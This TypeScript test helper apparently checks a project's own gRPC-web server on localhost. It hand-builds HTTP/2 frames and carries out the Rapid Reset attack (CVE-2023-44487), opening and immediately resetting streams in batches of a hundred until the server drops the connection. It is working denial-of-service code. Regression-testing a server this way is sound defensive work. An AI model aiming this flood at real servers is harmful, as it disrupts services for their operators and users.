import { once } from "node:events";
import { connect, type TLSSocket } from "node:tls";
import { KV } from "../../src/proto.ts";
import { pathOf } from "./raw.ts";

/** Types of frames, and the flag of HEADERS that are whole while their stream stays open (RFC 9113, 6). */
const headers = 1;
const resetStream = 3;
const settings = 4;
const ping = 6;
const endHeaders = 0x04;

const cancelled = Buffer.from([0, 0, 0, 8]);
const pong = frame(ping, 1, 0, Buffer.alloc(8));
const preface = Buffer.concat([Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), frame(settings, 0, 0)]);

/**
 * Opens streams on one HTTP/2 connection and resets each at once (CVE-2023-44487), until the other side closes it.
 * Resolves to how many there were.
 *
 * The frames are written by hand: Node's client reads nothing while its writes wait, and can miss that it was closed.
 */
export async function floodWithResets(port: number, ca: string): Promise<number> {
  const socket = connect({ port, host: "localhost", ca, ALPNProtocols: ["h2"] });
  try {
    const closed = new Promise((resolve) => socket.on("error", () => {}).once("close", resolve));
    await once(socket, "secureConnect");
    socket.write(preface);
    const opened = flood(socket, callOf(`localhost:${port}`));
    await closed;
    return opened();
  } finally {
    socket.destroy();
  }
}

/** A hundred at a time, each when the other side has read the one before. Gives how many there are by now. */
function flood(socket: TLSSocket, block: Uint8Array): () => number {
  let count = 0;
  const hundred = (): void => {
    const ids = Array.from({ length: 100 }, () => 2 * count++ + 1);
    const frames = ids.flatMap((id) => [frame(headers, endHeaders, id, block), frame(resetStream, 0, id, cancelled)]);
    socket.write(Buffer.concat([...frames, frame(ping, 0, 0, Buffer.alloc(8))]));
  };
  socket.on("data", (data: Buffer) => {
    if (data.includes(pong)) hundred();
  });
  hundred();
  return () => count;
}

/** The head of a call, without Huffman's code and the dynamic table: RFC 7541, 6 and appendix A. */
function callOf(authority: string): Uint8Array {
  const post = [0x83];
  const https = [0x87];
  const path = [0x04, ...textOf(pathOf(KV.method.range))];
  const host = [0x01, ...textOf(authority)];
  const type = [0x0f, 31 - 15, ...textOf("application/grpc-web+proto")];
  return Buffer.from([...post, ...https, ...path, ...host, ...type]);
}

function textOf(value: string): number[] {
  return [value.length, ...Buffer.from(value)];
}

function frame(type: number, flags: number, stream: number, payload: Uint8Array = new Uint8Array()): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}
